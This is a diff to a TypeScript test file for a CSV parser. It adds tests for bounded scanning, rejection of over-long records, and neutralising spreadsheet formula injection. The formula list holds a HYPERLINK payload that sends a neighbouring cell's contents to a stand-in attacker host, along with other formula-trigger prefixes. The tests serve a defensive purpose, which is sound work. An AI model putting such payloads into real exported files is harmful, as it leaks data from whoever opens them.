@@ -1,10 +1,20 @@
 import { Readable } from 'node:stream';
-import { csvLine, parseCsv } from './csv';
+import { csvLine, CsvRecordTooLongError, neutraliseFormula, parseCsv, restoreFormula } from './csv';
 
 async function all(chunks: string[]): Promise<string[][]> {
   const out: string[][] = [];
   for await (const r of parseCsv(Readable.from(chunks))) out.push(r);
   return out;
+}
+
+/** Characters the reader looked at to read `text` cut into `chunk`-sized pieces. */
+async function scannedFor(text: string, chunk: number): Promise<{ scanned: number; records: number }> {
+  const pieces: string[] = [];
+  for (let i = 0; i < text.length; i += chunk) pieces.push(text.slice(i, i + chunk));
+  let scanned = 0;
+  let records = 0;
+  for await (const _ of parseCsv(Readable.from(pieces), { maxRecordChars: text.length + 1, onScan: (n) => (scanned += n) })) records++;
+  return { scanned, records };
 }
 
 describe(parseCsv.name, () => {
@@ -30,5 +40,62 @@ describe(parseCsv.name, () => {
   it('round-trips what csvLine writes', async () => {
     const values = ['张红梅', 'a,b', 'say "hi"', '', '2010-07-01'];
     expect(await all([csvLine(values)])).toEqual([values]);
+  });
+
+  it('scans a record spread over many chunks a bounded number of times, not once per chunk', async () => {
+    // One 4 MB quoted field read in 4 KB chunks: the old reader rescanned it from its start on each of the 1,024 chunks.
+    const field = 'x'.repeat(4 * 1024 * 1024);
+    const text = `a,"${field}"\r\nb,c\r\n`;
+
+    const { scanned, records } = await scannedFor(text, 4 * 1024);
+
+    expect(records).toBe(2);
+    expect(scanned).toBeLessThanOrEqual(3 * text.length);
+  });
+
+  it('scans a file of many short records about once, whatever the chunk size', async () => {
+    const text = Array.from({ length: 20_000 }, (_, i) => csvLine([`9104251012${i}`, `成员${i}`, 'full', '2001-07-01'])).join('');
+    for (const chunk of [7, 100, 65_536]) {
+      const { scanned, records } = await scannedFor(text, chunk);
+      expect(records).toBe(20_000);
+      expect(scanned).toBeLessThanOrEqual(3 * text.length);
+    }
+  });
+
+  it('refuses a record longer than the limit instead of buffering it', async () => {
+    const text = `a,"${'y'.repeat(10_000)}`;
+    const read = async () => {
+      for await (const _ of parseCsv(Readable.from([text.slice(0, 5000), text.slice(5000)]), { maxRecordChars: 1000 }));
+    };
+    await expect(read()).rejects.toBeInstanceOf(CsvRecordTooLongError);
+  });
+});
+
+describe(neutraliseFormula.name, () => {
+  const NASTY = [
+    '=HYPERLINK("http://evil.example/?"&G2,"点我")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\t=1',
+    '\r=1',
+    "'=already quoted",
+    "''=twice",
+    "'plain quote",
+    "'",
+    '张=红梅',
+    '',
+  ];
+
+  it.each(NASTY)('writes %j so no spreadsheet runs it, and reads it back unchanged', async (name) => {
+    const [row] = await all([csvLine([name, 'x'])]);
+    const cell = row![0]!;
+
+    expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
+    expect(restoreFormula(cell)).toBe(name);
+  });
+
+  it('leaves ordinary text, dates and codes as they are', () => {
+    for (const s of ['张红梅', '2001-07-01', '910425101', "O'Brien"]) expect(neutraliseFormula(s)).toBe(s);
   });
 });
